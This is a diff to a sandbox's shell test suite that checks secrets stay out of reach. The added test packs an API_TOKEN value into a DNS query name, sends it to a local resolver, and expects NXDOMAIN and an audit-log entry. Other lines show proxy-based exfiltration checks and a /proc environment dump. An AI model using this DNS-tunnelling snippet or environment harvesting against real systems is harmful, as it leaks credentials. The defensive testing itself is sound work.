@@ -118,6 +118,21 @@ check "audit: exfiltration in a tunnel's first bytes" audit_exfil tunnel other.t
 check "audit: exfiltration as a CONNECT target" bash -c "grep '\"connect target\"' '$audit' | grep -q API_TOKEN"
 check "audit: exfiltration as a SOCKS target" bash -c "grep '\"socks target\"' '$audit' | grep -q API_TOKEN"
 
+# A placeholder in a DNS name (the in-sandbox resolver, a wildcard-allowed domain).
+sed 's/"allowed.test"]/"allowed.test", "*.other.test"], "resolver": true/' "$POL" > "$T/policy-dns.json"
+run sbx --policy "$T/policy-dns.json" --audit-log "$audit" -- python3 -c '
+import os, socket, struct
+q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+for l in (os.environ["API_TOKEN"] + ".other.test").split("."):
+    q += bytes([len(l)]) + l.encode()
+q += b"\x00" + struct.pack(">HH", 1, 1)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
+u.sendto(q, ("127.0.0.53", 53))
+r, _ = u.recvfrom(4096)
+print("RCODE", struct.unpack(">H", r[2:4])[0] & 15)'
+check "a placeholder in a DNS query name: NXDOMAIN" grep -qx "RCODE 3" <<<"$OUT"
+check "audit: exfiltration in a DNS name" bash -c "grep '\"dns name\"' '$audit' | grep -q API_TOKEN"
+
 # ---- the value is nowhere inside ----------------------------------------------------------------
 run sbx "${pol[@]}" -- bash -c "{ env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'; \
     cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' '; \
